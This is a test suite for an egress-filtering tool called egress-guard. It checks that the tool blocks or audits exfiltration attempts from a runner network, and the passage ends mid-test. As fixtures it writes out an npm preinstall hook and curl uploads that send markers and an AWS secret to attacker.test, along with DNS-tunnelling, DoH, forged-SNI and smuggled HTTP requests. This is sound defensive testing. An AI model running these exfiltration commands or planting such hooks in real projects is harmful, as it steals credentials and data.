/**
 * End-to-end attack suite: real clients (curl, dig, node, npm, git) in a runner network namespace whose
 * traffic egress-guard intercepts with its own rules, against servers in an "internet" namespace.
 * Each scenario asserts the client's outcome, what reached the internet side, and the decision event.
 * Needs root (network namespaces, iptables): it fails, never skips, when it cannot build them.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { mkdirSync, writeFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { BANNER_PORT, HALF_CLOSE_PORTS, NET, PACKAGE, World } from './harness.js';
import { sslv2ClientHello } from '../helpers/tls-client-hello.js';

let world: World;

before(async () => {
  world = await World.create();
});

after(async () => {
  await world?.close();
});

type Mode = 'block' | 'audit';

const outcomeFor = (mode: Mode) => (mode === 'block' ? 'blocked' : 'would-block');

function curl(args: string[], options: { input?: string } = {}) {
  return world.job('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...args], options);
}

function arrivedAt(predicate: (e: Record<string, unknown>) => boolean) {
  return world.internetLog().filter(predicate);
}

/**
 * A TLS client script (exit 3 on a connection error) that sent `GET /<marker>`: in block mode it saw the
 * connection reset and nothing arrived; in audit mode it got its answer and the request arrived once.
 */
function assertTlsRequestOutcome(mode: Mode, result: { code: number; stderr: string }, marker: string): void {
  const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).includes(marker));
  if (mode === 'block') {
    assert.equal(result.code, 3, 'the client sees the connection reset');
    assert.equal(arrived.length, 0);
  } else {
    assert.equal(result.code, 0, result.stderr);
    assert.equal(arrived.length, 1);
  }
}

/**
 * A client that connects to allowed.test's half-close port (a server that answers `received N bytes` once the client's
 * FIN has come), writes `bytes` with its FIN, and prints what came back (`nothing`, or the socket error's code).
 */
function halfClosingClient(bytes: Buffer) {
  return world.job('node', [
    '-e',
    `const net=require('net');const s=net.connect(${HALF_CLOSE_PORTS.plain},'${NET.allowed}',()=>s.end(Buffer.from('${bytes.toString('hex')}','hex')));let buf='';s.on('data',(d)=>{buf+=d});s.on('close',()=>{process.stdout.write(buf||'nothing');process.exit(0)});s.on('error',(e)=>{console.log(e.code);process.exit(0)});setTimeout(()=>{console.log('waiting');process.exit(0)},8000);`,
  ]);
}

function randomLabel(length: number): string {
  return randomBytes(length).toString('hex').slice(0, length);
}

for (const mode of ['block', 'audit'] as const) {
  describe(`${mode} mode`, () => {
    before(async () => {
      await world.startEgressGuard(mode);
    });
    after(async () => {
      await world.stopEgressGuard();
    });

    test('control: allowed.test over HTTPS and HTTP works, and is logged as allowed', async () => {
      const https = await curl(['https://allowed.test/']);
      assert.equal(https.code, 0, https.stderr);
      assert.match(https.stdout, /hello from allowed\.test/);
      const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 443);
      assert.ok(event, 'transparent decision for allowed.test:443');
      assert.equal(event.decision, 'allowed');
      assert.equal(event.sni, 'allowed.test');
      assert.ok(event.ip === NET.allowed || event.ip === NET.allowed6, `connected to allowed.test's address, got ${event.ip}`);
      const plain = await curl(['http://allowed.test/']);
      assert.equal(plain.code, 0, plain.stderr);
      assert.match(plain.stdout, /hello from allowed\.test/);
      const httpEvent = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 80);
      assert.equal(httpEvent?.decision, 'allowed');
      assert.equal(httpEvent?.method, 'GET');
    });

    test('1: npm install with a preinstall calling attacker.test through node https (ignores HTTP_PROXY)', async () => {
      const marker = `npm-${mode}-${randomLabel(12)}`;
      const project = path.join(world.dir, `npm-project-${mode}`);
      mkdirSync(project, { recursive: true });
      const steal = `require('https').get('https://attacker.test/collect?d=${marker}', (r) => { r.resume(); r.on('end', () => process.exit(0)); }).on('error', (e) => { console.error('preinstall: ' + e.code); process.exit(0); })`;
      writeFileSync(
        path.join(project, 'package.json'),
        JSON.stringify({
          name: 'victim',
          version: '1.0.0',
          private: true,
          scripts: { preinstall: `node -e "${steal.replace(/"/g, '\\"')}"` },
          dependencies: { [PACKAGE.name]: PACKAGE.version },
        }),
      );
      const result = await world.job('npm', ['install', '--no-audit', '--no-fund', '--foreground-scripts'], {
        cwd: project,
        timeoutMs: 90_000,
        env: {
          npm_config_registry: 'https://registry.test/',
          npm_config_cafile: world.caFile,
          NODE_EXTRA_CA_CERTS: world.caFile,
          npm_config_cache: path.join(world.dir, `npm-cache-${mode}`),
          npm_config_update_notifier: 'false',
          // npm itself honours the proxy variables; the preinstall's https.get does not.
          HTTPS_PROXY: 'http://127.0.0.1:3128',
          https_proxy: 'http://127.0.0.1:3128',
        },
      });
      assert.equal(result.code, 0, `npm install failed: ${result.stderr}`);
      assert.ok(existsSync(path.join(project, 'node_modules', PACKAGE.name, 'package.json')), 'the allowed package is installed from registry.test');
      const stolen = arrivedAt((e) => e.type === 'http' && String(e.url).includes(marker));
      const attackerEvent = await world.decision((e) => e.host === 'attacker.test');
      assert.ok(attackerEvent, 'a decision event for attacker.test');
      assert.equal(attackerEvent.decision, outcomeFor(mode));
      if (mode === 'block') {
        assert.equal(stolen.length, 0, 'nothing reached attacker.test');
      } else {
        assert.equal(stolen.length, 1, 'audit mode lets the request through');
        assert.ok(await world.decision((e) => e.kind === 'transparent' && e.host === 'attacker.test' && e.decision === 'would-block'));
      }
      const registry = await world.decision((e) => e.host === 'registry.test' && (e.kind === 'connect' || e.kind === 'transparent'));
      assert.equal(registry?.decision, 'allowed', 'npm reached registry.test');
    });

    test('2: uploader-style curl of the environment to attacker.test/upload (by name, and with --resolve past DNS)', async () => {
      const secret = `SECRET_${mode}_${randomLabel(16)}`;
      const env = `CI=true\nAWS_SECRET_ACCESS_KEY=${secret}\n`;
      const byName = await curl(['-X', 'POST', '--data-binary', '@-', 'https://attacker.test/upload'], { input: env });
      const pinned = await curl(['-X', 'POST', '--data-binary', '@-', '--resolve', `attacker.test:443:${NET.attacker}`, 'https://attacker.test/upload'], { input: env });
      const bodies = arrivedAt((e) => e.type === 'http' && String(e.body).includes(secret));
      const transparent = await world.decision((e) => e.kind === 'transparent' && e.host === 'attacker.test' && e.sni === 'attacker.test' && e.ip === NET.attacker);
      assert.ok(transparent, 'transparent decision for the pinned upload');
      assert.equal(transparent.decision, outcomeFor(mode));
      assert.equal(transparent.reason, 'not-allowed-endpoint');
      if (mode === 'block') {
        assert.notEqual(byName.code, 0, 'the upload by name fails');
        assert.notEqual(pinned.code, 0, 'the upload to the pinned address fails');
        assert.equal(bodies.length, 0, 'the secret never reached the attacker server');
      } else {
        assert.equal(pinned.code, 0, pinned.stderr);
        assert.equal(bodies.length, 2, 'audit mode forwards both uploads');
      }
    });

    test('3: raw-IP connects (https://203.0.113.77/, http://<decimal>/, http://<hex>/) are decided as raw-ip', async () => {
      const before = world.internetLog().length;
      const decimal = String(NET.rawOnly.split('.').reduce((n, o) => n * 256 + Number(o), 0));
      const hex = `0x${NET.rawOnly
        .split('.')
        .map((o) => Number(o).toString(16).padStart(2, '0'))
        .join('')}`;
      const tls = await curl([`https://${NET.rawOnly}/`]);
      const dec = await curl(['-i', `http://${decimal}/`]);
      const hx = await curl(['-i', `http://${hex}/`]);
      const events = world.events().filter((e) => e.event === 'decision' && e.kind === 'transparent' && e.ip === NET.rawOnly);
      assert.ok(events.length >= 3, `three raw-ip decisions, got ${events.length}`);
      for (const e of events) {
        assert.equal(e.event === 'decision' && e.reason, 'raw-ip');
        assert.equal(e.event === 'decision' && e.decision, outcomeFor(mode));
      }
      const arrived = world
        .internetLog()
        .slice(before)
        .filter((e) => e.type === 'http' && e.local && String(e.local).endsWith(NET.rawOnly));
      if (mode === 'block') {
        assert.notEqual(tls.code, 0);
        assert.match(dec.stdout, /403/);
        assert.match(dec.stdout, /x-egress-guard-reason: .*raw IP/i);
        assert.match(hx.stdout, /403/);
        assert.equal(arrived.length, 0);
      } else {
        assert.equal(tls.code, 0, tls.stderr);
        assert.match(dec.stdout, /hello from 203\.0\.113\.77/);
        assert.equal(arrived.length, 3);
      }
    });

    test('4: DNS exfiltration: dig <60 chars>.attacker.test over UDP, +tcp, and @another resolver', async () => {
      const names = [0, 1, 2].map(() => `${randomLabel(60)}.attacker.test`);
      const udp = await world.job('dig', ['+tries=1', '+time=3', names[0]!]);
      const tcp = await world.job('dig', ['+tcp', '+tries=1', '+time=3', names[1]!]);
      const other = await world.job('dig', ['+tries=1', '+time=3', `@${NET.otherResolver}`, names[2]!]);
      for (const r of [udp, tcp, other]) assert.equal(r.code, 0, `dig gets an answer from egress-guard: ${r.stderr}`);
      const seen = arrivedAt((e) => e.type === 'dns').map((e) => String(e.name));
      assert.equal(arrivedAt((e) => e.type === 'dns' && e.server === NET.otherResolver).length, 0, 'the other resolver never sees a query');
      for (const [i, name] of names.entries()) {
        const event = await world.decision((e) => e.kind === 'dns' && e.host === name);
        assert.ok(event, `dns decision for query ${i}`);
        assert.equal(event.decision, outcomeFor(mode));
        if (mode === 'block') assert.ok(!seen.includes(name), `query ${i} never reached the authoritative server`);
      }
      if (mode === 'block') {
        for (const r of [udp, tcp, other]) assert.match(r.stdout, /status: (NXDOMAIN|REFUSED)/);
      } else {
        assert.ok(seen.includes(names[0]!), 'audit mode forwards the query');
      }
    });

    test('4b: DNS over IPv6 (a resolver reached over IPv6 is redirected to [::1]): allowed names answer in both modes, an exfil name is NXDOMAIN in block', async () => {
      const allowed = await world.job('dig', ['+short', '+tries=1', '+time=3', `@${NET.dns6}`, 'allowed.test', 'A']);
      assert.equal(allowed.code, 0, `audit must not break IPv6 DNS: ${allowed.stderr}${allowed.stdout}`);
      assert.equal(allowed.stdout.trim(), NET.allowed);
      const name = `${randomLabel(40)}.attacker.test`;
      const exfil = await world.job('dig', ['+tries=1', '+time=3', `@${NET.dns6}`, name, 'A']);
      assert.equal(exfil.code, 0, exfil.stderr);
      const event = await world.decision((e) => e.kind === 'dns' && e.host === name);
      assert.equal(event?.decision, outcomeFor(mode));
      assert.match(event?.client ?? '', /^\[[0-9a-f:]+\]:\d+$/, 'the query came over IPv6, to the IPv6 listener');
      const reached = arrivedAt((e) => e.type === 'dns' && e.name === name);
      if (mode === 'block') {
        assert.match(exfil.stdout, /status: NXDOMAIN/);
        assert.equal(reached.length, 0, 'never sent upstream');
      } else {
        assert.match(exfil.stdout, /status: NOERROR/);
        assert.equal(reached.length, 1, 'audit forwards it');
      }
    });

    test('5: DNS-over-HTTPS to a non-allowed resolver, and to the attacker under a forged allowed SNI', async () => {
      const doh = await curl(['--doh-url', 'https://attacker.test/dns-query', 'https://allowed.test/']);
      const dohEvent = await world.decision((e) => e.host === 'attacker.test' && (e.kind === 'dns' || e.kind === 'transparent'));
      assert.equal(dohEvent?.decision, outcomeFor(mode));
      const fronted = await curl(['--connect-to', `allowed.test:443:${NET.attacker}:443`, 'https://allowed.test/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB']);
      const event = await world.decision((e) => e.kind === 'transparent' && e.reason === 'sni-mismatch' && e.ip === NET.attacker && e.port === 443);
      assert.ok(event, 'sni-mismatch decision');
      assert.equal(event.decision, outcomeFor(mode));
      const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).startsWith('/dns-query'));
      if (mode === 'block') {
        assert.notEqual(doh.code, 0, 'curl cannot resolve through the blocked DoH server');
        assert.notEqual(fronted.code, 0);
        assert.equal(arrived.length, 0, 'no DoH request reached the attacker');
      } else {
        assert.equal(fronted.code, 0, fronted.stderr);
        assert.ok(arrived.length >= 1);
      }
    });

    test("6b: TLS without SNI to an allowed name's address is decided as a raw IP, not by DNS attribution", async () => {
      const resolved = await world.job('dig', ['+short', 'allowed.test']);
      assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
      const script = `const tls=require('tls');const s=tls.connect({host:'${NET.allowed}',port:443,servername:'',rejectUnauthorized:false},()=>{s.end('GET /no-sni-${mode} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
      const result = await world.job('node', ['-e', script]);
      const event = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.allowed && e.host === NET.allowed && e.sni === undefined);
      assert.ok(event, 'a decision on the raw address');
      assert.equal(event.reason, 'raw-ip');
      assert.equal(event.decision, outcomeFor(mode));
      assert.equal(result.code, mode === 'block' ? 3 : 0, result.stderr);
    });

    // 400 ms: past the 200 ms peek of an address a silent client is let through at, within the 1 s one of elsewhere.
    for (const lateMs of [400, 2500]) {
      test(`6c: a ClientHello held back past the peek (${lateMs} ms), to an allowed name's address, is still checked`, async () => {
        // A shared (CDN) address: the connection is first attributed to allowed.test through DNS, then the
        // client names another site in its late SNI.
        const since = Date.now();
        const resolved = await world.job('dig', ['+short', 'allowed.test']);
        assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
        const marker = `late-sni-${mode}-${lateMs}-${randomLabel(10)}`;
        const script = `const net=require('net');const tls=require('tls');const fs=require('fs');const raw=net.connect(443,'${NET.allowed}',()=>{setTimeout(()=>{const s=tls.connect({socket:raw,servername:'attacker.test',ca:fs.readFileSync('${world.caFile}')},()=>{s.end('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')});s.on('data',()=>{});s.on('end',()=>process.exit(0));s.on('error',(e)=>{console.error(e.code);process.exit(3)})},${lateMs})});raw.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
        const result = await world.job('node', ['-e', script]);
        const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'attacker.test' && e.ip === NET.allowed && Date.parse(e.time) >= since);
        assert.ok(
          event,
          `a decision on the late SNI; client ${result.code} ${result.stderr}; events on ${NET.allowed}: ${JSON.stringify(
            world
              .events()
              .filter((e) => 'ip' in e && e.ip === NET.allowed)
              .slice(-4),
          )}`,
        );
        assert.equal(event.host, 'attacker.test');
        assert.equal(event.decision, outcomeFor(mode));
        assertTlsRequestOutcome(mode, result, marker);
        // Each decision that let the connection go on has one close, and the tunnel is counted once: for the name
        // the client sent (audit mode), the attributed decision's close saying handed-over.
        const attributed = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.allowed && e.port === 443 && e.sni === undefined && Date.parse(e.time) >= since);
        assert.equal(attributed?.host, 'allowed.test', 'the silent start was decided by DNS attribution');
        const attributedClose = await world.closeOf(attributed.id);
        assert.equal(attributedClose?.error, mode === 'block' ? 'refused-after-first-bytes' : 'handed-over');
        const lateClose = await world.closeOf(event.id, mode === 'block' ? 500 : 3000);
        if (mode === 'block') {
          assert.equal(lateClose, undefined, 'a refused decision has no close');
        } else {
          assert.ok(lateClose, 'the late decision has its close');
          assert.notEqual(lateClose.error, 'handed-over'); // (the server's close may race the client's close_notify: upstream-EPIPE)
          assert.ok(lateClose.bytes_out > 0 && lateClose.bytes_in > 0, JSON.stringify(lateClose));
          assert.deepEqual([attributedClose?.bytes_in, attributedClose?.bytes_out], [0, 0]);
        }
      });
    }

    test("6f: a server that speaks first, at an allowed name's address: a client that waits for its banner gets it, decided by DNS attribution", async (t) => {
      // As SMTP, FTP and MySQL: the client says nothing until the server's banner. The listener peeks for a ClientHello
      // or request head (1 s; 200 ms where a silent client would be let through by attribution, as here), then
      // decides on the name the DNS resolved to the address and opens the tunnel that carries the banner.
      const resolved = await world.job('dig', ['+short', 'allowed.test']);
      assert.match(resolved.stdout, new RegExp(NET.allowed.replace(/\./g, '\\.')));
      const marker = `banner-${mode}-${randomLabel(10)}`;
      const script = `const net=require('net');const t0=Date.now();const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let step=0;s.on('data',(d)=>{buf+=d;if(step===0&&buf.includes('220 ')){step=1;console.log('banner after '+(Date.now()-t0)+' ms');buf='';s.write('QUIT ${marker}\\r\\n')}else if(step===1&&buf.includes('echo QUIT ${marker}')){console.log('echoed');s.destroy();process.exit(0)}});s.on('error',(e)=>{console.error(e.code);process.exit(3)});setTimeout(()=>{console.error('no banner or echo in 8 s');process.exit(4)},8000);`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, `${result.stdout} ${result.stderr}`);
      assert.match(result.stdout, /banner after \d+ ms\necho/);
      t.diagnostic(result.stdout.split('\n')[0]!);
      const event = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.allowed && e.port === BANNER_PORT);
      assert.ok(event, 'a decision for the banner connection');
      assert.equal(event.host, 'allowed.test');
      assert.equal(event.decision, 'allowed');
    });

    test('6g: after a banner, a one-word text without a line end (`ping` waiting for its answer) is decided within seconds, not the idle timeout', async () => {
      // Once text comes, its first line gets a moment to become a request line, then the listener's 10 s for an
      // unfinished head; then it is decided as a raw-address connection (no name to check: allowed-ips or nothing), not
      // handed to the request reader, where it waited for the 300 s idle timeout, in audit mode too.
      await world.job('dig', ['+short', 'allowed.test']);
      const script = `const net=require('net');const t0=Date.now();const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let sent=false;const done=(why)=>{console.log(why+' after '+(Date.now()-t0)+' ms');process.exit(0)};s.on('data',(d)=>{buf+=d;if(!sent&&buf.includes('220 ')){sent=true;s.write('ping')}if(buf.includes('echo ping'))done('echoed')});s.on('error',(e)=>done(e.code));s.on('close',()=>done('closed'));setTimeout(()=>done('waiting'),25000);`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, `${result.stdout} ${result.stderr}`);
      if (mode === 'block') assert.match(result.stdout, /^(ECONNRESET|closed) after/);
      else assert.match(result.stdout, /^echoed after/);
      const event = await world.decision((e) => e.kind === 'transparent' && e.host === NET.allowed && e.port === BANNER_PORT && e.decision !== 'allowed');
      assert.equal(event?.decision, outcomeFor(mode), 'the text is decided as a raw-address connection, with its event');
    });

    for (const split of ['request-line', 'head'] as const) {
      test(`6h: after a banner, a late request ${split === 'request-line' ? 'line cut across writes' : 'head whose headers come after its line'} 1.5 s apart is decided on its Host, never relayed unread`, async () => {
        // Past the late wait's first byte and its second for the line: the request is still read by the request reader.
        await world.job('dig', ['+short', 'allowed.test']);
        const marker = `late-split-${split}-${mode}-${randomLabel(10)}`;
        const [first, rest] =
          split === 'request-line' ? [`GET /${marker} HT`, 'TP/1.1\\r\\nHost: attacker.test\\r\\n\\r\\n'] : [`GET /${marker} HTTP/1.1\\r\\n`, 'Host: attacker.test\\r\\n\\r\\n'];
        const script = `const net=require('net');const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let sent=false;const done=(why)=>{console.log(why+' '+JSON.stringify(buf.slice(0,200)));process.exit(0)};s.on('data',(d)=>{buf+=d;if(!sent&&buf.includes('220 ')){sent=true;s.write('${first}');setTimeout(()=>s.write('${rest}'),1500)}});s.on('error',(e)=>done(e.code));s.on('close',()=>done('closed'));setTimeout(()=>done('waiting'),20000);`;
        const result = await world.job('node', ['-e', script]);
        assert.equal(result.code, 0, `${result.stdout} ${result.stderr}`);
        if (mode === 'block') assert.doesNotMatch(result.stdout, /echo (GET|TP|Host)/, 'the request never reached the server');
        const event = await world.decision((e) => e.kind === 'transparent' && e.path === `/${marker}`);
        assert.ok(event, `a decision for the late request (${result.stdout})`);
        assert.equal(event.host, 'attacker.test');
        assert.notEqual(event.decision, 'allowed');
      });
    }

    test('6i: after a banner, a late ClientHello cut after its first 3 bytes, the rest 1.5 s later, is decided on its SNI, never relayed unread', async () => {
      await world.job('dig', ['+short', 'allowed.test']);
      const script = `const net=require('net'),tls=require('tls'),{Duplex}=require('stream');let hello=null;const d=new Duplex({read(){},write(c,e,cb){if(!hello)hello=Buffer.from(c);cb()}});tls.connect({socket:d,servername:'attacker.test'}).on('error',()=>{});const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let sent=false;const done=(why)=>{console.log(why+' '+JSON.stringify(buf.slice(0,60)));process.exit(0)};s.on('data',(d)=>{buf+=d.toString('latin1');if(!sent&&buf.includes('220 ')){sent=true;s.write(hello.subarray(0,3));setTimeout(()=>s.write(hello.subarray(3)),1500)}});s.on('error',(e)=>done(e.code));s.on('close',()=>done('closed'));setTimeout(()=>done('waiting'),20000);`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, `${result.stdout} ${result.stderr}`);
      if (mode === 'block') assert.match(result.stdout, /^(ECONNRESET|closed) /);
      if (mode === 'block') assert.doesNotMatch(result.stdout, /echo \\u0016/, 'the ClientHello never reached the server');
      const event = await world.decision((e) => e.kind === 'transparent' && e.sni === 'attacker.test' && e.port === BANNER_PORT);
      assert.ok(event, `a decision on the late SNI (${result.stdout})`);
      assert.notEqual(event.decision, 'allowed');
    });

    test("6j: after a banner, a client of another protocol whose first byte is a TLS handshake's is decided within seconds, not the idle timeout", async () => {
      // A record header (0x16 0x03 0x01, 512 bytes announced), then a word, then waiting for the answer: the late wait
      // held it for the whole record until the 300 s idle timeout. Now the peek's 1 s from its first byte, then the 10 s
      // for an unfinished head, then a raw-address decision.
      await world.job('dig', ['+short', 'allowed.test']);
      const script = `const net=require('net');const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let sent=false;const done=(why)=>{console.log(why);process.exit(0)};s.on('data',(d)=>{buf+=d.toString('latin1');if(!sent&&buf.includes('220 ')){sent=true;s.write(Buffer.from([0x16,0x03,0x01,0x02,0x00,0x70,0x69,0x6e,0x67]))}if(buf.includes('ping'))done('echoed')});s.on('error',(e)=>done(e.code));s.on('close',()=>done('closed'));setTimeout(()=>done('waiting'),25000);`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, `${result.stdout} ${result.stderr}`);
      if (mode === 'block') assert.match(result.stdout, /^(ECONNRESET|closed)/);
      else assert.match(result.stdout, /^echoed/);
      const event = await world.decision((e) => e.kind === 'transparent' && e.host === NET.allowed && e.port === BANNER_PORT && e.decision !== 'allowed');
      assert.equal(event?.decision, outcomeFor(mode), 'decided as a raw-address connection, with its event');
    });

    test('6k: a request line without a version (HTTP/0.9 style) is decided as a raw-address connection, at once and after a banner; an SMTP first line still passes', async () => {
      // HTTP/0.9's `GET /x` names no host, and servers still read it: it was taken for another protocol's text, decided
      // by DNS attribution (allowed.test) and relayed unread, within the peek and after a banner alike.
      await world.job('dig', ['+short', 'allowed.test']);
      const since = Date.now();
      const port = HALF_CLOSE_PORTS.plain;
      const marker = `v09-${mode}-${randomLabel(10)}`;
      const halfClosing = (text: string) => halfClosingClient(Buffer.from(text, 'latin1'));
      // Also split on a VT, or after a FF (Python's http.server serves both as GET /x; review41b).
      for (const [i, line] of [`GET http://attacker.test/${marker}-0\r\n`, `GET\v/${marker}-1\r\n`, `\fGET /${marker}-2\r\n`].entries()) {
        const sent = Date.now();
        const refused = await halfClosing(line);
        if (mode === 'block') assert.match(refused.stdout, /^(ECONNRESET|nothing)/, JSON.stringify(line));
        else assert.equal(refused.stdout, `received ${line.length} bytes\n`);
        assert.equal(arrivedAt((e) => e.type === 'half-close' && String(e.data).includes(`${marker}-${i}`)).length, mode === 'block' ? 0 : 1, JSON.stringify(line));
        const event = await world.decision((e) => e.kind === 'transparent' && e.port === port && e.decision !== 'allowed' && Date.parse(e.time) >= sent);
        assert.deepEqual([event?.host, event?.reason, event?.decision], [NET.allowed, 'raw-ip', outcomeFor(mode)], `decided on the raw address: ${JSON.stringify(line)}`);
      }
      const smtp = `EHLO ${marker}.runner.test\r\n`;
      const passed = await halfClosing(smtp);
      assert.equal(passed.stdout, `received ${smtp.length} bytes\n`);
      // After a banner (the late check), as within the peek.
      const late = `const net=require('net');const s=net.connect(${BANNER_PORT},'${NET.allowed}');let buf='';let sent=false;const done=(why)=>{console.log(why);process.exit(0)};s.on('data',(d)=>{buf+=d.toString('latin1');if(!sent&&buf.includes('220 ')){sent=true;s.write('GET /late-${marker}\\r\\n')}if(buf.includes('echo GET'))done('echoed')});s.on('error',(e)=>done(e.code));s.on('close',()=>done('closed'));setTimeout(()=>done('waiting'),8000);`;
      const result = await world.job('node', ['-e', late]);
      if (mode === 'block') assert.match(result.stdout, /^(ECONNRESET|closed)/);
      else assert.match(result.stdout, /^echoed/);
      const lateEvent = await world.decision((e) => e.kind === 'transparent' && e.port === BANNER_PORT && e.host === NET.allowed && Date.parse(e.time) >= since);
      assert.equal(lateEvent?.decision, outcomeFor(mode), 'the late line is decided as a raw-address connection, with its event');
    });

    test("6l: an SSLv2-format ClientHello (no SNI) to an allowed name's address is decided as a raw IP, not by DNS attribution", async () => {
      // OpenSSL servers still negotiate TLS 1.0-1.2 from it (unit sniffing-first-bytes); it was taken for another
      // protocol's bytes and decided by DNS attribution (allowed.test), as TLS without SNI must not be (6b).
      await world.job('dig', ['+short', 'allowed.test']);
      // And one of 16 KiB, the most a record holds (header 0xc0 0x00, which OpenSSL takes too; review41b).
      for (const hello of [sslv2ClientHello(), sslv2ClientHello(0x0303, 16_384)]) {
        const since = Date.now();
        const result = await halfClosingClient(hello);
        if (mode === 'block') assert.match(result.stdout, /^(ECONNRESET|nothing)/);
        else assert.equal(result.stdout, `received ${hello.length} bytes\n`);
        assert.equal(arrivedAt((e) => e.type === 'half-close' && e.bytes === hello.length && Number(e.time) >= since).length, mode === 'block' ? 0 : 1);
        const event = await world.decision((e) => e.kind === 'transparent' && e.port === HALF_CLOSE_PORTS.plain && Date.parse(e.time) >= since);
        assert.deepEqual(
          [event?.host, event?.reason, event?.decision, event?.sni],
          [NET.allowed, 'raw-ip', outcomeFor(mode), undefined],
          `decided on the raw address (${hello.length} bytes)`,
        );
      }
    });

    for (const silentMs of [0, 1500]) {
      test(`6d: plain HTTP keep-alive: a second request on the same connection naming another Host is decided on its own${silentMs ? ` (client silent ${silentMs} ms first)` : ''}`, async () => {
        const marker = `second-host-${mode}-${silentMs}-${randomLabel(10)}`;
        const script = `const net=require('net');const s=net.connect(80,'${NET.allowed}');let buf='';let step=0;s.on('connect',()=>setTimeout(()=>s.write('GET /first-${marker} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n'),${silentMs}));s.on('data',(d)=>{buf+=d;if(step===0&&buf.includes('hello from allowed.test')){step=1;buf='';s.write('GET /${marker} HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n')}});s.on('end',()=>{console.log(step+' '+buf.split('\\r\\n')[0]);process.exit(0)});s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
        const result = await world.job('node', ['-e', script]);
        assert.equal(result.code, 0, result.stderr);
        const first = await world.decision((e) => e.kind === 'transparent' && e.path === `/first-${marker}` && e.ip === NET.allowed);
        assert.equal(first?.decision, 'allowed');
        const second = await world.decision((e) => e.kind === 'transparent' && e.path === `/${marker}`);
        assert.ok(second, 'a decision on the second request');
        assert.equal(second.host, 'attacker.test');
        assert.equal(second.decision, outcomeFor(mode));
        const arrived = arrivedAt((e) => e.type === 'http' && String(e.url).startsWith(`/${marker}`));
        if (mode === 'block') {
          assert.match(result.stdout, /^1 HTTP\/1\.1 403 /);
          assert.equal(arrived.length, 0);
        } else {
          assert.match(result.stdout, /^1 HTTP\/1\.1 200 /);
          assert.equal(arrived.length, 1);
        }
      });
    }

    test('6m: a silent client that speaks plain HTTP later: its first request goes on the server connection opened at the silent start', async () => {
      // Attributed (dig first), the silent client is decided by DNS and its tunnel connects at once, so that a server
      // that speaks first is heard; its late request is read by the request reader. That connection was closed unused and
      // the request opened a second one (issue 14).
      await world.job('dig', ['+short', 'allowed.test']);
      // A request takes an idle connection the proxy holds to the server before a reserved one (so that tunnels do not
      // pile idle connections up there), and earlier tests may have left one: the server closes idle connections after
      // 5 s (node's keepAliveTimeout), so wait (at most 10 s) until it has none open.
      const openNow = () => arrivedAt((e) => e.type === 'http-connection' || e.type === 'http-connection-closed').at(-1)?.open ?? 0;
      for (const deadline = Date.now() + 10_000; openNow() !== 0 && Date.now() < deadline;) await new Promise((resolve) => setTimeout(resolve, 200));
      assert.equal(openNow(), 0, 'connections to the server left open by earlier tests');
      const marker = `late-reuse-${mode}-${randomLabel(10)}`;
      const since = Date.now();
      const script = `const net=require('net');const s=net.connect(80,'${NET.allowed}');let buf='';s.on('connect',()=>setTimeout(()=>s.write('GET /${marker} HTTP/1.1\\r\\nHost: allowed.test\\r\\nConnection: close\\r\\n\\r\\n'),1500));s.on('data',(d)=>buf+=d);s.on('end',()=>{console.log(buf.split('\\r\\n')[0]);process.exit(0)});s.on('error',(e)=>{console.error(e.code);process.exit(3)});`;
      const result = await world.job('node', ['-e', script]);
      assert.equal(result.code, 0, result.stderr);
      assert.match(result.stdout, /^HTTP\/1\.1 200 /);
      const requests = arrivedAt((e) => e.type === 'http' && e.url === `/${marker}`);
      assert.equal(requests.length, 1);
      const connections = arrivedAt((e) => e.type === 'http-connection' && Number(e.time) >= since);
      assert.deepEqual(
        connections.map((c) => c.peerPort),
        [requests[0]!.peerPort],
        'one server connection, the one the request came on',
      );
    });

    test('6e: plain HTTP that starts with an empty line, or pauses inside its first request line, is still decided per request', async () => {
      const marker = `odd-start-${mode}-${randomLabel(10)}`;
      const pipelined = `\\r\\nGET /crlf-first HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /${marker}-a HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n`;
      const paused = `ET /${marker}-b HTTP/1.1\\r\\nHost: attacker.test\\r\\nConnection: close\\r\\n\\r\\n`;
